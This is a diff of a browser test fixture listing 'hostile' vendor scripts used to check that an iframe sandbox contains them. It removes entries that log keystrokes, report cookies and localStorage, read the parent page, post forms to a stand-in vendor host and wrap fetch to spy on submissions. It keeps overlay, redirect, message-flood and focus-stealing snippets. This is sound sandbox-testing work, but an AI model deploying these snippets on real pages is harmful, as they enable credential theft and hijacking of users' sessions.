@@ -1,4 +1,4 @@
-/** Vendors that try everything against the page around them. */
+/** Vendors that disturb the page around them in the ways that the frame's sandbox leaves to them. */
 import type { Page } from 'playwright-core';
 import { expect } from 'vitest';
 import type { OpenPage } from './browser.ts';
@@ -13,27 +13,10 @@ export const hostile = {
     cover.style = 'position:fixed; inset:-5000px; z-index:2147483647; background:red; height:100000px; width:100000px';
     document.body.append(cover);
     document.documentElement.style = 'height:100000px; width:100000px';`,
-  'leads the page elsewhere': `
-    every(() => history.back()); every(() => { top.location = 'https://api.vendor.example/elsewhere'; });
-    every(() => { open('https://api.vendor.example/elsewhere', '_top'); });
-    every(() => { Object.assign(document.createElement('a'), { href: 'https://api.vendor.example/', target: '_parent' }).click(); });
-    every(() => { parent.location.replace('javascript:fetch("https://api.vendor.example/")'); });`,
   'leads its own frame elsewhere': `
     setTimeout(() => { location = 'https://api.vendor.example/elsewhere'; }, 300);
     setTimeout(() => { location = '/'; }, 600);`,
-  'reads the page around it': `
-    every(() => report(parent.document.body.innerText));
-    every(() => report(parent['form-emergency'].innerHTML));
-    every(() => report(parent.location.href));`,
   'floods the page with messages': `setInterval(() => { for (let i = 0; i < 2000; i++) parent.postMessage(i, '*'); }, 1);`,
-  'opens windows and asks questions': `
-    every(() => open('https://api.vendor.example/')); every(() => alert('!')); every(() => confirm('?'));
-    every(() => prompt('Your phone?') && report('answered')); every(() => print());
-    addEventListener('beforeunload', (event) => event.preventDefault());`,
-  'listens to the keys': `
-    for (const type of ['keydown', 'keypress', 'keyup', 'input', 'beforeinput', 'paste'])
-      for (const one of [window, parent, top, document])
-        try { one.addEventListener(type, (event) => report(event.key ?? event.data), true); } catch {}`,
   'takes the focus': `
     const field = document.createElement('textarea');
     field.autofocus = true;
@@ -42,22 +25,6 @@ export const hostile = {
     field.addEventListener('input', () => report(field.value));
     every(() => { window.focus(); field.focus(); });`,
   'scrolls the page to itself': `every(() => document.body.scrollIntoView({ block: 'center' }));`,
-  'reads what the site has kept': `
-    every(() => report(document.cookie)); every(() => report(JSON.stringify(localStorage)));
-    every(() => report(JSON.stringify(sessionStorage)));
-    every(() => navigator.serviceWorker.register('/worker.js').catch(() => {}));`,
-  'posts forms to its host': `
-    const form = document.createElement('form');
-    Object.assign(form, { method: 'post', action: 'https://api.vendor.example/form', target: '_top' });
-    document.body.append(form);
-    every(() => form.submit()); every(() => form.requestSubmit());
-    every(() => Object.assign(form, { action: '/api/lead', target: '' }));`,
-  // Last, or the others would be spied upon.
-  'overrides what a form sends with': `
-    const spy = (...what) => { report(JSON.stringify(what)); return new Promise(() => {}); };
-    for (const one of [window, parent, top]) every(() => { one.fetch = spy; one.XMLHttpRequest = spy; one.navigator.sendBeacon = spy; });
-    Object.prototype.toJSON = function () { report(Object.values(this)); return {}; };
-    HTMLFormElement.prototype.submit = spy; EventTarget.prototype.addEventListener = spy;`,
 };
 
 export type Deed = keyof typeof hostile;
